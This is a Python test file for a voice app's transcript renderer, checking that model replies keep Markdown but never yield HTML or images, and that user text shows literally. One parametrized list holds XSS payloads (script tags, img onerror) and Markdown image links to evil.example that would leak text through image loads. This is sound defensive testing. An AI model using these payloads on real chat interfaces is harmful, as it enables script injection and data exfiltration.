"""The transcript as Markdown: what was written shows, and nothing of it runs."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from voice.engines import Unavailable
from voice.session import Line
from voice.web.transcript import defuse, quote, render_transcript

MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
NASTY = st.text(alphabet="<>&!()[]*_`~#|\\-+1. \nabあimg/srchttp:'\"=")


def show(markdown: str) -> str:
    """What a browser would make of it."""
    return str(MARKDOWN.render(markdown))


def test_a_reply_keeps_its_markdown() -> None:
    assert "<strong>bold</strong>" in show(defuse("This is **bold**."))
    assert "<code" in show(defuse("```python\nprint(1 < 2)\n```"))


def test_code_shows_every_character_as_it_is() -> None:
    assert "if a &lt; b &amp;&amp; c:" in show(defuse("```\nif a < b && c:\n```"))
    assert "<code>a &lt; b</code>" in show(defuse("Use `a < b` here."))


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![secret](http://evil.example/?q=words)",
        "![secret][1]\n\n[1]: http://evil.example/",
        "<b>bold</b>",
        "`<b>` <i>x</i> ` <u>y</u>",
        "```\ncode\n```\n<img src=x>",
        "``` <img src=x> ```",
        "\\`<img src=x>`",
        "- a\n  ```\n<img src=x>\n  ```",
        "`` ` <img src=x> ``` `` <img src=x>",
        "!\\[a](b)![c](d)",
    ],
)
def test_neither_html_nor_images_come_out_of_a_reply(attack: str) -> None:
    assert not re.search(r"<(script|img|b|i|u)\b", show(defuse(attack)))


@given(NASTY)
def test_whatever_the_model_writes_no_html_or_image_comes_out(text: str) -> None:
    html = show(defuse(text))
    tags = set(re.findall(r"<([a-z]+\d?)", html))
    assert tags <= {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "a", "hr", "blockquote"} | {
        f"h{level}" for level in range(1, 7)
    } | {"table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize(
    "words",
    [
        "2 * 3 * 4",
        "snake_case_name",
        "# no heading",
        "1. no list",
        "- no list",
        "a [link](http://x)",
        "<b>",
        "`code`",
    ],
)
def test_the_users_words_show_to_the_letter(words: str) -> None:
    shown = re.sub(r"</?p>\n?", "", show(quote(words))).strip()
    assert not re.search(r"<(?!br)", shown)
    assert shown.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == words


def test_plain_words_are_copied_without_marks() -> None:
    words = "Hello, how are you? I'm fine (really) - thanks! 今日は、いい天気ですね。3.5 kg"
    assert quote(words) == words


def test_a_stopped_reply_says_so() -> None:
    messages = render_transcript([Line("user", "Hi"), Line("assistant", "Once", stopped=True)], "ja")
    assert messages[1]["content"].startswith("Once")
    assert "停止" in messages[1]["content"]


def test_a_failed_reply_says_why_in_the_users_language() -> None:
    error = Unavailable("chat_timeout", seconds=30.0)
    (message,) = render_transcript([Line("assistant", "", error=error)], "en")
    assert "within 30 seconds" in message["content"]


def test_a_reply_not_begun_is_not_shown() -> None:
    assert len(render_transcript([Line("user", "Hi"), Line("assistant", "")], "en")) == 1
